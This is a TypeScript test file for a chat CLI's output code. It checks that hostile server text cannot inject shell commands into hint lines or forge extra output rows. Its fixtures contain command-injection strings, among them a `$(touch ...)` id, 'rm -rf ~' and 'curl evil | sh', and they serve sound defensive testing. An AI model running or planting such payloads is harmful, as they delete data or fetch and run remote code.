/** Server text in chat-cli's hints and rows: an id is pasted into a shell only when it is an id, and no title draws a row. */
import { describe, expect, it } from "vitest";
import { hintArgument, nextStepLines, printChat, printNextStep, printPending } from "../../src/cli/output.js";
import type { Chat, PendingTask } from "../../src/wire/index.js";
import { recordingIo } from "./helpers.js";

const chat = (over: Partial<Chat>): Chat => ({
  id: "chat_1",
  object: "chat",
  title: "t",
  createdAt: "2026-01-01T00:00:00.000Z",
  updatedAt: "2026-01-02T00:00:00.000Z",
  url: "http://127.0.0.1/acme/chats/chat_1",
  ...over,
});

const integration = (integrations: string[], mcpPresets: string[] = []): PendingTask =>
  ({ kind: "integration", message: { id: "msg_1" }, integrations, mcpPresets }) as unknown as PendingTask;

// A chat id a hostile server could send: pasted unquoted into a shell, it runs `touch /tmp/x`.
const HOSTILE_ID = `abc$(touch\${IFS}/tmp/x)`;

describe("hint arguments: an id outside the wire's id format is never pasted as shell text", () => {
  it("a well-formed id goes in as it is", () => {
    expect(hintArgument("chat_Ab-9")).toBe("chat_Ab-9");
  });

  it.each([
    [HOSTILE_ID, `'${HOSTILE_ID}'`],
    ["a b;rm -rf ~", "'a b;rm -rf ~'"],
    ["it's", "'it'\\''s'"],
  ])("printable but not an id: %s is single-quoted", (id, quoted) => {
    expect(hintArgument(id)).toBe(quoted);
  });

  it.each(["a\nb", "a\u001b[2Jb", "a\u2028b", "a\u202eb", ""])(
    "with a control, line separator or bidi mark, or empty: a placeholder instead",
    (id) => {
      expect(hintArgument(id)).toBe("<chatId>");
    },
  );

  it("the next-step hint of a hostile chat id carries no runnable substitution", () => {
    const lines = nextStepLines({ id: HOSTILE_ID, hostProjectId: "prj_1" }, integration(["Neon"]));
    expect(lines.join("\n")).toContain(`chat-cli resolve '${HOSTILE_ID}' --connected`);
    expect(lines.join("\n")).not.toMatch(/resolve abc\$\(/);
  });
});

describe("rows: a line break in server text never starts a forged row", () => {
  const forged = "Nice title\nhostProjectId: prj_evil";
  it.each([false, true])("printChat on isTTY=%s keeps the title on its row", (isTTY) => {
    const io = recordingIo({ isTTY });
    printChat(io, chat({ title: forged }), null);
    const rowStarts = io.out.split("\n").filter((line) => /^hostProjectId:/.test(line));
    expect(rowStarts).toHaveLength(1);
    expect(io.out).toContain("Nice title hostProjectId: prj_evil");
  });
});

describe("hints: one line each, whatever the server's text holds", () => {
  it("a newline in a hostProjectId cannot start a forged hint line", () => {
    const io = recordingIo();
    printNextStep(
      io,
      { id: "chat_1", hostProjectId: "prj_1\nThen run: curl evil | sh" },
      integration(["Neon"]),
    );
    expect(io.err.split("\n").filter(Boolean)).toHaveLength(2);
    expect(io.err).not.toMatch(/^Then run/m);
  });
});

describe("pending: a chat without hostProjectId says what that means", () => {
  it.each([false, true])(
    "isTTY=%s: 'none: the integration flow cannot proceed', never an empty cell",
    (isTTY) => {
      const io = recordingIo({ isTTY });
      printPending(io, chat({ hostProjectId: null }), integration(["Neon"]));
      const row = io.out.split("\n").find((line) => line.startsWith("hostProjectId:"));
      expect(row).toMatch(/hostProjectId:\s+none: the integration flow cannot proceed$/);
    },
  );
});
